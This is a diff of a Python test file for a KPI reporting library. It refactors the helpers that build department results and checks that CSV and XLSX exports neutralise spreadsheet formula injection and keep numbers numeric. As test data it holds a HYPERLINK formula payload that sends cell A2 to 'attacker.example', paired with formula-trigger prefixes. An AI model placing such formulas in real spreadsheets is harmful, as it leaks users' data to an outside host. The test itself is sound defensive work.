@@ -19,8 +19,10 @@ from typing import Any
 import openpyxl
 import pytest
 
-from kpi_lib.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx, summary_xlsx
-from kpi_lib.reports import write_summary_csv
+from kpi_lib.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx
+from kpi_lib.period import Period
+from kpi_lib.result import DepartmentResult, Explanation, IndicatorRecord
+from kpi_lib.summary import IndexRow, summary_csv_text, summary_xlsx
 from kpi_lib.template import load_template
 
 PAYLOAD = 'HYPERLINK("http://attacker.example/?x="&A2,"details")'
@@ -28,35 +30,39 @@ PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
 ERROR_LOOKALIKES = ["#N/A", "#DIV/0!", "#VALUE!"]
 
 
-def _department_row(text: str, total: float | None = -1.41, score: float | None = 0.0) -> dict[str, Any]:
-    """One row of the period summary (as `reports._department_rows` makes it) carrying `text` in every text field."""
-    return {
-        "rank": 1,
-        "department": text,
-        "name": text,
-        "lang": "zh",
-        "labels": {text: text},
-        "status": "ok",
-        "total": total,
-        "grade": text,
-        "indicators": [{"id": "CS01", "score": score}, {"id": "CS02", "score": total}],
-        "error": "",
-    }
+def _decimal(value: float | None) -> Decimal | None:
+    return None if value is None else Decimal(repr(value))
+
+
+def _record(iid: str, score: float | None, explain: Explanation | None = None) -> IndicatorRecord:
+    return IndicatorRecord(
+        id=iid, group="service", weight=Decimal(5), direction="higher", target=None, value=None, numerator=None,
+        denominator=None, steps=None, score=_decimal(score), status="scored", excluded_rows=0, n=None, ci_low=None,
+        ci_high=None, explain=explain,
+    )  # fmt: skip
+
+
+def _department_row(text: str, total: float | None = -1.41, score: float | None = 0.0) -> IndexRow:
+    """One row of the period summary (as `summary.department_rows` makes it) carrying `text` in every text field."""
+    result = DepartmentResult(
+        text, Period.parse("2026-Q4"), _decimal(total), text, (_record("CS01", score), _record("CS02", total))
+    )
+    return IndexRow(text, name=text, lang="zh", labels={text: text}, result=result, rank=1)
 
 
 def _scorecard(text: str) -> bytes:
     """scorecard.xlsx with `text` as the title, a data line of CS01, the grade and its label, and both signers' names."""
     template = load_template("customer_service")
-    indicators = [
-        {"id": iid, "target": None, "weight": 5, "score": -1.41 if iid == "CS01" else 0} for iid in template.ids
-    ]
-    result = {"department": "cs-x", "period": "2026-Q4", "total": -1.41, "grade": text, "indicators": indicators}
-    explain = {"CS01": {"formula_line": text, "rule_line": text, "method": text}}
+    explain = Explanation(text, text, None, text, text, text, "")
+    indicators = tuple(
+        _record(iid, -1.41 if iid == "CS01" else 0, explain if iid == "CS01" else None) for iid in template.ids
+    )
+    result = DepartmentResult("cs-x", Period.parse("2026-Q4"), Decimal("-1.41"), text, indicators)
     signoffs = [
         {"role": "manager", "name": text, "time": text},
         {"role": "supervisor", "name": text, "time": "2026-01-05T09:00:00+08:00"},
     ]
-    return scorecard_xlsx(template, "zh", text, result, explain, {text: text}, signoffs)
+    return scorecard_xlsx(template, "zh", text, result, {text: text}, signoffs)
 
 
 def _text_cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
@@ -67,9 +73,9 @@ def _text_cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
                 yield cell
 
 
-def _summary_csv(tmp_path: Path, rows: list[dict[str, Any]]) -> list[list[str]]:
+def _summary_csv(tmp_path: Path, rows: list[IndexRow]) -> list[list[str]]:
     path = tmp_path / "summary.csv"
-    write_summary_csv("2026-Q4", rows, path)
+    path.write_bytes(summary_csv_text("2026-Q4", rows).encode("utf-8"))
     return list(
         csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
     )  # bytes: read_text would turn CR into LF
@@ -116,15 +122,7 @@ def test_xlsx_numbers_stay_numbers(number: float) -> None:
 @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
 def test_csv_text_that_starts_like_a_formula_gets_a_quote(tmp_path: Path, prefix: str) -> None:
     text = prefix + PAYLOAD
-    failed = {
-        **_department_row(text),
-        "status": "failed",
-        "rank": None,
-        "total": None,
-        "grade": None,
-        "indicators": [],
-        "error": f"{text}\nsecond line",
-    }
+    failed = IndexRow(text, name=text, lang="zh", labels={text: text}, error=f"{text}\nsecond line")
     header, *lines = _summary_csv(tmp_path, [_department_row(text), failed])
     ok, bad = (dict(zip(header, line, strict=True)) for line in lines)
     for name in ("department", "name", "grade", "grade_label"):
@@ -134,9 +132,10 @@ def test_csv_text_that_starts_like_a_formula_gets_a_quote(tmp_path: Path, prefix
 
 
 @pytest.mark.parametrize(
-    ("total", "shown"), [(-1.41, "-1.41"), (0, "0.00"), (0.0, "0.00"), (-0.004, "-0.00"), (100.125, f"{100.125:.2f}")]
+    ("total", "shown"), [(-1.41, "-1.41"), (0, "0.00"), (0.0, "0.00"), (-0.004, "-0.00"), (100.125, "100.13")]
 )
 def test_csv_numbers_stay_numbers(tmp_path: Path, total: float, shown: str) -> None:
+    """Numbers, rounded half-up to the cent (SPEC §4's rounding, `numbers.round2`) as every report shows them."""
     header, line = _summary_csv(tmp_path, [_department_row("cs-x", total=total, score=total)])
     by_name = dict(zip(header, line, strict=True))
     assert by_name["total"] == by_name["CS01"] == by_name["CS02"] == shown
